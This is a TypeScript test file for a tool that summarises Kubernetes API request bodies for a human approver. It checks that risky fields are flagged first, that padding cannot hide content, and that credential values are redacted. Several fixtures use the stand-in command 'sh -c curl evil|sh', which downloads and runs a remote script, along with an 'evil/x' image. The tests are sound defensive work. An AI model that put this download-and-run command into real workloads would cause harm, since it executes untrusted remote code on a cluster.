import { describe, expect, test } from 'vitest'
import { toProtobuf } from '../../policy/pods/to-protobuf.ts'
import { bytesField, envelope, flagField } from '../../request/object/a-protobuf.ts'
import { asked, questionOf, type Sent, whyNot } from '../asking.ts'
import { container, DEPLOYMENT, JSON_BODY, POD, patch } from './a-question.ts'

const PROTOBUF = 'application/vnd.kubernetes.protobuf'

describe('what an approver sees of a body', () => {
  test('what runs comes before three hundred harmless annotations, and what is not shown is counted', () => {
    const annotations = Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`note-${at}`, 'nothing to see']))
    const { facts, bodyPreview, bodyCut } = patch({
      metadata: { annotations },
      ...container({ command: ['sh', '-c', 'curl evil|sh'] }),
    })
    expect(facts[0]).toMatch(/^! opaque/)
    expect(facts.slice(1, 2)).toEqual([`spec.template.spec.containers[0].command = sh -c 'curl evil|sh'`])
    expect(facts.at(-1)).toMatch(/^and \d+ more fields that are not shown$/)
    expect(bodyPreview).not.toContain('curl evil')
    expect(bodyCut).toMatch(/^first 4096 of \d+ bytes \(\d+ as sent\), \d+ not shown$/)
  })

  test('whitespace pushes nothing out of sight', () => {
    const body = `{${' '.repeat(8000)}"spec":{"replicas":0}}`
    const type = 'application/merge-patch+json'
    expect(questionOf(`PATCH ${DEPLOYMENT}`, { body, type })).toMatchObject({
      bodyPreview: '{"spec":{"replicas":0}}',
      bodyCut: '',
      bodyBytes: '{"spec":{"replicas":0}}'.length,
      facts: ['spec.replicas = 0'],
    })
  })

  test.each([
    ['privileged', container({ securityContext: { privileged: true } })],
    ['hostPath', { spec: { volumes: [{ name: 'h', hostPath: { path: '/' } }] } }],
    ['serviceAccountName', { spec: { template: { spec: { serviceAccountName: 'builder' } } } }],
    ['secretKeyRef', container({ env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'db', key: 'p' } } }] })],
    ['ownerReferences', { metadata: { ownerReferences: [{ name: 'gone', uid: '0-1' }] } }],
    ['$patch', container({ $patch: 'delete' })],
  ])('%s is marked, and comes first', (field, body) => {
    const [first = ''] = patch({
      ...body,
      metadata: { labels: { a: 'b' }, ...(body as Record<string, object>)['metadata'] },
    }).facts
    expect(first).toMatch(/^! /)
    expect(
      patch(body)
        .facts.filter(line => line.startsWith('! '))
        .join(),
    ).toContain(field)
  })

  test('a JSON patch is its steps', () => {
    const steps = [
      { op: 'replace', path: '/spec/replicas', value: 3 },
      { op: 'remove', path: '/metadata/finalizers' },
      { op: 'copy', from: '/spec/a', path: '/spec/b' },
      { op: 'add', path: '/spec/template/spec/containers/0/image', value: 'evil/x' },
    ]
    expect(patch(steps, 'application/json-patch+json').facts).toEqual([
      '! remove metadata.finalizers',
      'replace spec.replicas = 3',
      'add spec.template.spec.containers[0].image = "evil/x"',
      'copy spec.a to spec.b',
    ])
  })

  test('a body without a content type is read as JSON, as the API server reads it', () => {
    const body = JSON.stringify({ kind: 'Pod', spec: { containers: [{ name: 'a', image: 'evil/x' }] } })
    const question = questionOf('POST /api/v1/namespaces/shop/pods', { body })
    expect(question.contentType).toBe(JSON_BODY)
    expect(question.facts.join()).toContain('spec.containers[0].image = "evil/x"')
    expect(question.bodyPreview).toContain('evil/x')
  })

  test('server-side apply in YAML is shown as what it says', () => {
    const body = 'spec:\n  # only a restart\n  replicas: 0\n'
    expect(
      questionOf(`PATCH ${DEPLOYMENT}?fieldManager=x`, { body, type: 'application/apply-patch+yaml' }),
    ).toMatchObject({
      facts: ['spec.replicas = 0'],
      bodyPreview: '{"spec":{"replicas":0}}',
    })
  })

  test('a create in protobuf is shown as its JSON is, and a no to one is a no to the other', () => {
    const job = {
      metadata: { name: 'j' },
      spec: {
        backoffLimit: 0,
        template: {
          spec: {
            containers: [{ name: 'j', image: 'busybox', command: ['sh', '-c', 'curl evil | sh'] }],
            serviceAccountName: 'builder',
            hostNetwork: true,
            restartPolicy: 'Never',
          },
        },
      },
    }
    const line = 'POST /apis/batch/v1/namespaces/shop/jobs'
    const body = toProtobuf('jobs', job)
    const said = { apiVersion: 'batch/v1', kind: 'Job', ...job }
    const inJson = questionOf(line, { body: JSON.stringify(said), type: JSON_BODY })
    const inProtobuf = questionOf(line, { body, type: PROTOBUF })
    expect(new Set(inProtobuf.facts)).toEqual(new Set(inJson.facts))
    expect(inProtobuf.facts).toContain(`spec.template.spec.containers[0].command = sh -c 'curl evil | sh'`)
    expect(inProtobuf).toMatchObject({ bodyBytes: body.length, contentType: PROTOBUF })
    expect(inProtobuf.bodyPreview).toContain('curl evil')
    expect(asked(line, { body, type: PROTOBUF }).subject).toBe(
      asked(line, { body: JSON.stringify(said), type: JSON_BODY }).subject,
    )
  })

  test('options of a delete in protobuf are shown', () => {
    const body = envelope(Buffer.concat([flagField(1, 0), bytesField(4, 'Orphan'), bytesField(5, 'All')]))
    expect(questionOf(`DELETE ${POD}`, { body, type: PROTOBUF })).toMatchObject({
      summary: 'DRY RUN, changes nothing: delete pods "web" in shop, propagation Orphan, grace 0 s',
      bodyPreview: '{"gracePeriodSeconds":0,"propagationPolicy":"Orphan","dryRun":["All"]}',
    })
  })

  test.each<{ name: string; line: string; sent: Sent; says: string }>([
    {
      name: 'protobuf with a field of another version',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: envelope(bytesField(2, bytesField(99, 'x'))), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'protobuf of another kind than the path says',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: Buffer.from('k8s\0\x0a\x0c\x0a\x02v1\x12\x06Secret\x12\x00', 'latin1'), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'protobuf of somebody else',
      line: 'POST /apis/metrics.example.com/v1/namespaces/shop/pods',
      sent: { body: envelope(bytesField(2, '')), type: PROTOBUF },
      says: 'send JSON',
    },
    {
      name: 'a member named twice',
      line: 'POST /api/v1/namespaces/shop/pods',
      sent: { body: '{"a":1,"a":2}', type: JSON_BODY },
      says: 'a member is named twice',
    },
    {
      name: 'options of a delete in protobuf of another version',
      line: `DELETE ${POD}`,
      sent: { body: envelope(bytesField(99, 'x')), type: PROTOBUF },
      says: 'its options cannot be read',
    },
    {
      name: 'more about what runs than fits',
      line: `PATCH ${DEPLOYMENT}`,
      sent: { body: JSON.stringify(container({ args: ['x'.repeat(5000)] })), type: 'application/merge-patch+json' },
      says: 'more about what runs than fits',
    },
    {
      name: 'a huge body',
      line: `PATCH ${DEPLOYMENT}`,
      sent: { body: JSON.stringify({ a: 'x'.repeat(300_000) }), type: 'application/merge-patch+json' },
      says: 'larger than',
    },
  ])('nobody is asked about $name', ({ line, sent, says }) => {
    expect(whyNot(line, sent)).toContain(says)
  })

  test.each([
    'POST /api/v1/namespaces/shop/secrets',
    'POST /apis/authentication.k8s.io/v1/tokenreviews',
    'POST /apis/bitnami.com/v1alpha1/namespaces/shop/sealedsecrets',
    'POST /api/v1/namespaces/shop/serviceaccounts/web/token',
  ])('of what may be a credential only the fields are named: %s', line => {
    const body = JSON.stringify({ data: { password: 'aHVudGVyMg==' }, spec: { token: 'sesame' } })
    const question = questionOf(line, { body, type: JSON_BODY })
    expect(JSON.stringify(question)).not.toMatch(/aHVudGVyMg|sesame/)
    expect(question).toMatchObject({ facts: ['data.password', 'spec.token'], bodyPreview: '', bodyBytes: body.length })
    expect(question.bodyCut).toContain('credential')
  })
})
